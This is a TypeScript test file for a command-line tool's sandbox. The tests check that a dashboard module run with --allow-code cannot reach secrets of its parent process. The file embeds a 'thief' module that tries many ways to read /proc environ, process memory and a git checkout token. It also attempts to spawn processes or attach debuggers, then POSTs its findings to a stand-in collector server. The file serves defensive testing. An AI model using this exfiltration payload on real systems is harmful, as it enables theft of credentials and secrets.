import { spawn } from "node:child_process";
import {
  chmodSync,
  chownSync,
  copyFileSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { afterAll, beforeAll, expect, test } from "vitest";
import { defined } from "../../src/json/defined.ts";
import { type HttpDouble, startHttpDouble } from "../servers/http-double.ts";
import { toolPath } from "../servers/process.ts";

/** In the environment and on the command line of the program that runs the module. */
const canary = "glsa_C4n4ryOfTheParent0123456789ab_0f1e2d3c";
const program = resolve(import.meta.dirname, "../../dist/cli.js");
const root = resolve(import.meta.dirname, "../..");

let folder: string;
let thief: HttpDouble;

beforeAll(async () => {
  if (!existsSync(program)) throw new Error("dist/cli.js is missing: npm run build");
  folder = mkdtempSync(join(tmpdir(), "dashpreview-attack-"));
  chmodSync(folder, 0o755);
  // Where every user may run it.
  copyFileSync(toolPath("node24"), join(folder, "node24"));
  chmodSync(join(folder, "node24"), 0o755);
  thief = await startHttpDouble((_, response) => response.end());
});
afterAll(async () => {
  await thief?.stop();
  rmSync(folder, { recursive: true, force: true });
});

/** A project of its own, with a checkout's token beside the code. */
function project(name: string, files: Readonly<Record<string, string>>): string {
  const top = join(folder, name);
  mkdirSync(join(top, ".git"), { recursive: true });
  writeFileSync(join(top, ".git/config"), `[http]\n\textraheader = AUTHORIZATION: basic ${canary}\n`);
  writeFileSync(join(top, "package.json"), "{}");
  for (const [file, text] of Object.entries(files)) writeFileSync(join(top, file), text);
  return top;
}

interface Runner {
  readonly node: string;
  readonly uid?: number;
}

function run(top: string, file: string, { node, uid }: Runner): Promise<{ code: number | null; log: string }> {
  const child = spawn(node, [program, "validate", file, "--allow-code", "--output", "json"], {
    cwd: top,
    env: {
      PATH: process.env["PATH"],
      GRAFANA_TOKEN: canary,
      DASHPREVIEW_PROMETHEUS_PASSWORD: canary,
      THIEF: thief.url,
    },
    stdio: ["ignore", "pipe", "pipe"],
    ...defined({ uid, gid: uid }),
  });
  let log = "";
  for (const stream of [child.stdout, child.stderr]) stream.on("data", (chunk: Buffer) => (log += chunk.toString()));
  return new Promise((done) => child.once("close", (code) => done({ code, log })));
}

const asRoot = process.getuid?.() === 0;
const runners: [string, () => Runner][] = [
  ["Node 20 of this user", () => ({ node: process.execPath })],
  ["Node 24 of this user", () => ({ node: join(folder, "node24") })],
  // Root is told apart from other users by more than Node: as one of them only the permission model stands in the way.
  ...(asRoot
    ? ([
        ["Node 20 of a user without rights", () => ({ node: process.execPath, uid: 65534 })],
        ["Node 24 of a user without rights", () => ({ node: join(folder, "node24"), uid: 65534 })],
      ] as [string, () => Runner][])
    : []),
];

/** Everything that a module could try, and what came of it, sent out over the network: nothing of that is cleaned. */
const thiefModule = () => `
import fs from "node:fs";
import http from "node:http";
import path from "node:path";
import { createRequire } from "node:module";
const require = createRequire(import.meta.url);
const found = {};
const attempt = async (name, action) => {
  try { found[name] = String(await action()); } catch (error) { found[name] = "refused: " + (error?.code ?? error); }
};
const parent = process.ppid;
const here = path.dirname(new URL(import.meta.url).pathname);
const victims = [parent, "self/../" + parent, parent + "/task/" + parent, 1];
for (const pid of victims) {
  for (const name of ["environ", "cmdline", "mem", "maps", "stack", "root/proc/" + parent + "/environ"]) {
    await attempt("read " + pid + "/" + name, () => fs.readFileSync("/proc/" + pid + "/" + name, "latin1"));
  }
}
const environ = "/proc/" + parent + "/environ";
await attempt("buffer path", () => fs.readFileSync(Buffer.from(environ)));
await attempt("file URL", () => fs.readFileSync(new URL("file://" + environ)));
await attempt("dots", () => fs.readFileSync(here + "/../../../../../../.." + environ));
await attempt("promises", () => fs.promises.readFile(environ));
await attempt("open", () => fs.promises.open(environ).then((handle) => handle.readFile()));
await attempt("stream", async () => { let text = ""; for await (const part of fs.createReadStream(environ)) text += part; return text; });
await attempt("blob", async () => (await fs.openAsBlob(environ)).text());
await attempt("cp", () => { fs.cpSync(environ, here + "/copy"); return fs.readFileSync(here + "/copy"); });
await attempt("symlink", () => { fs.symlinkSync(environ, here + "/link"); return fs.readFileSync(here + "/link"); });
await attempt("hard link", () => { fs.linkSync(environ, here + "/hard"); return fs.readFileSync(here + "/hard"); });
await attempt("chdir", () => { process.chdir("/proc/" + parent); return fs.readFileSync("environ"); });
await attempt("list", () => fs.readdirSync("/proc").join());
await attempt("require", () => require(environ));
await attempt("import", () => import(environ));
await attempt("import json", () => import(environ, { with: { type: "json" } }));
await attempt("loadEnvFile", () => { process.loadEnvFile(environ); return JSON.stringify(process.env); });
await attempt("sqlite", async () => JSON.stringify(new (await import("node:sqlite")).DatabaseSync(environ, { readOnly: true }).prepare("select * from sqlite_master").all()));
await attempt("sqlite write", async () => new (await import("node:sqlite")).DatabaseSync(here + "/x.db").exec("create table t (a)"));
await attempt("write", () => fs.writeFileSync(here + "/y.txt", "x"));
await attempt("v8 flags", async () => (await import("node:v8")).setFlagsFromString("--logfile=" + here + "/z.log"));
await attempt("v8 flags named", async () => { const { setFlagsFromString } = await import("node:v8"); setFlagsFromString("--prof"); });
await attempt("inspector", async () => { const { Session } = await import("node:inspector"); new Session().connect(); });
await attempt("inspector open", async () => (await import("node:inspector")).open(0));
await attempt("linked binding", () => process._linkedBinding("process_methods"));
await attempt("report", () => JSON.stringify(process.report.getReport()));
await attempt("env", () => JSON.stringify(process.env) + process.argv + process.execArgv.filter((one) => !one.startsWith("--allow") && !one.includes("process.argv")));
await attempt("exec", async () => (await import("node:child_process")).execSync("cat " + environ));
await attempt("spawn", async () => (await import("node:child_process")).spawnSync("cat", [environ]).stdout);
await attempt("fork", async () => (await import("node:child_process")).fork(here + "/thief.mjs").pid);
await attempt("worker", async () => { const { Worker } = await import("node:worker_threads"); return new Worker("1", { eval: true }).threadId; });
await attempt("wasi", async () => new (await import("node:wasi")).WASI({ version: "preview1", preopens: { "/": "/proc/" + parent } }) && "made");
await attempt("binding", () => process.binding("fs").internalModuleReadJSON(environ));
await attempt("dlopen", () => process.dlopen({ exports: {} }, "/proc/self/exe"));
await attempt("checkout token", () => fs.readFileSync(here + "/.git/config"));
await attempt("checkout token by dots", () => fs.readFileSync(here + "/x/../.git/config"));
for (const pid of [parent]) {
  await attempt("kill", () => process.kill(pid, "SIGUSR1"));
  await attempt("_kill", () => process._kill(pid, 10));
  await attempt("debug", () => process._debugProcess(pid));
}
await new Promise((done) => setTimeout(done, 200));
await attempt("debugger", () => new Promise((done, fail) => http.get("http://127.0.0.1:9229/json", (answer) => { answer.resume(); done("open: " + answer.statusCode); }).on("error", fail)));
await new Promise((done) => {
  const request = http.request(${JSON.stringify(thief.url)}, { method: "POST" }, (answer) => { answer.resume(); answer.on("end", done); });
  request.end(JSON.stringify(found));
});
export default { title: "made by code", panels: [], schemaVersion: 39, uid: "by-code" };
`;

test.for(runners)("a module of --allow-code gets no secret of its parent, run by %s", async ([, runner]) => {
  thief.seen.length = 0;
  const top = project(`steal-${thief.port}-${Math.random()}`, { "thief.mjs": thiefModule() });
  const how = runner();
  // Its own files: nothing but the permission model keeps it from writing there.
  if (how.uid !== undefined) for (const path of [top, join(top, ".git/config")]) chownSync(path, how.uid, how.uid);
  const { code, log } = await run(top, "thief.mjs", how);
  expect([code, log]).toEqual([0, expect.stringContaining("made by code")]);
  expect(thief.seen).toHaveLength(1);
  const found = JSON.parse(thief.seen[0]!.body) as Record<string, string>;
  expect(Object.keys(found).length).toBeGreaterThan(50);
  expect(Object.entries(found).filter(([, text]) => text.includes("glsa_"))).toEqual([]);
  for (const name of [
    "exec",
    "spawn",
    "worker",
    "dlopen",
    "binding",
    "list",
    "kill",
    "_kill",
    "debug",
    "debugger",
    "checkout token",
    "sqlite",
    "sqlite write",
    "write",
    "v8 flags",
    "v8 flags named",
    "inspector",
    "inspector open",
    "linked binding",
  ])
    expect([name, found[name]]).toEqual([name, expect.stringMatching(/^refused: /)]);
});

test.for([
  ["a link to /proc", "/proc"],
  ["a link to a process that may start later", "/proc/4194000/environ"],
  ["a link to the top of the file system", "/"],
] as const)("code of a project with %s is not run", async ([name, target]) => {
  thief.seen.length = 0;
  const top = project(`link-${name.length}`, { "thief.mjs": thiefModule() });
  mkdirSync(join(top, "deep/er"), { recursive: true });
  symlinkSync(target, join(top, "deep/er/p"));
  const { code, log } = await run(top, "thief.mjs", { node: process.execPath });
  expect([code, log]).toEqual([2, expect.stringContaining("is a link that leads to other processes' data")]);
  expect(thief.seen).toEqual([]);
});

test("a TypeScript module cannot have the compiler take in another process' environment or the checkout's token", async () => {
  const top = project("compiled", {
    "git.ts": `export default { title: await import("./.git/config", { with: { type: "text" } }).then((one) => one.default) };`,
    "proc.ts": `import text from "/proc/self/environ" with { type: "text" };\nexport default { title: text, panels: [] };`,
  });
  mkdirSync(join(top, "node_modules"));
  for (const name of ["esbuild", "@esbuild"])
    symlinkSync(join(root, "node_modules", name), join(top, "node_modules", name));
  for (const file of ["git.ts", "proc.ts"]) {
    const { code, log } = await run(top, file, { node: process.execPath });
    expect([code, log]).toEqual([2, expect.stringMatching(/may not import|failed: |No loader/)]);
    expect(log).not.toContain("extraheader");
  }
});

test("SIGUSR1 does not open the program's debugger", async () => {
  thief.seen.length = 0;
  const slow = `await fetch("${thief.url}");\nawait new Promise((done) => setTimeout(done, 800));\nexport default { title: "slow", panels: [] };`;
  const top = project("usr1", { "slow.mjs": slow });
  const child = spawn(process.execPath, [program, "validate", "slow.mjs", "--allow-code"], {
    cwd: top,
    stdio: ["ignore", "pipe", "pipe"],
  });
  let log = "";
  for (const stream of [child.stdout, child.stderr]) stream.on("data", (chunk: Buffer) => (log += chunk.toString()));
  const ended = new Promise<number | null>((done) => child.once("close", done));
  while (thief.seen.length === 0 && child.exitCode === null) await new Promise((done) => setTimeout(done, 20));
  child.kill("SIGUSR1");
  expect([await ended, log.includes("Debugger")]).toEqual([0, false]);
});
